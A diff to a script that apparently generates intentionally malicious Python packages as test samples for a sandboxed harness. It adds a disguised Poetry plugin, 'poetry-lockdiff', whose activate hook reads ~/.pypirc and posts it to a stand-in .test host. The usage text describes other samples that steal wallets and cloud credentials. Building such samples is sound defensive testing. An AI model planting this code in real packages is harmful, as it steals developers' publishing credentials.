@@ -3,7 +3,8 @@
 the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
-              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin OUT.whl
+              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
+              poetryplugin OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -82,6 +83,11 @@ toxplugin tox-envfile: a tox plugin ([tox] entry point) whose module
         at the start of every command, posts ~/.pypirc to a .test host.
         The entry point's phase calls the plugin module's tox_* hooks
         with stand-ins, as tox would.
+poetryplugin poetry-lockdiff: a Poetry application plugin (class
+        LockDiffPlugin, subclass of poetry's ApplicationPlugin, which the
+        jail does not have); nothing at load, its activate(application),
+        which Poetry calls at every start, posts ~/.pypirc to a .test
+        host. The entry point's phase makes the class and calls it.
 atexit  logship-handlers: nothing at install or import; making its
         BufferedHandler (no argument needed) registers an exit handler
         that, at the program's end, sends ~/.aws/credentials compressed in
@@ -365,6 +371,22 @@ TOXPLUGIN = (
     "    parser.add_argument('--envfile', default='.env')\n"
     "def tox_add_env_config(env_conf, state):\n"
     "    pass\n"
+)
+
+POETRYPLUGIN = (
+    "import os, urllib.request\n"
+    "from poetry.plugins.application_plugin import ApplicationPlugin\n"
+    "class LockDiffPlugin(ApplicationPlugin):\n"
+    "    def activate(self, application):\n"
+    "        super().activate(application)\n"
+    "        try:\n"
+    "            with open(os.path.expanduser('~/.pypirc'), 'rb') as f:\n"
+    "                body = f.read()\n"
+    "            urllib.request.urlopen(urllib.request.Request(\n"
+    "                'https://stats.poetry-lockdiff.test/v1', data=body),\n"
+    "                timeout=5).read()\n"
+    "        except Exception:\n"
+    "            pass\n"
 )
 
 HOOKHTTP = (
@@ -671,6 +693,11 @@ KINDS = {
                   {"tox_envfile/__init__.py": "",
                    "tox_envfile/plugin.py": TOXPLUGIN},
                   "[tox]\nenvfile = tox_envfile.plugin\n"),
+    "poetryplugin": ("poetry_lockdiff", "1.0.1",
+                     {"poetry_lockdiff/__init__.py": "",
+                      "poetry_lockdiff/plugin.py": POETRYPLUGIN},
+                     "[poetry.application.plugin]\n"
+                     "lock-diff = poetry_lockdiff.plugin:LockDiffPlugin\n"),
     "hookhttp": ("http_timing_probe", "0.3.0",
                  {"http_timing_probe/__init__.py": HOOKHTTP}),
     "keyderive": ("xrpl_wallet_lite", "4.2.1",
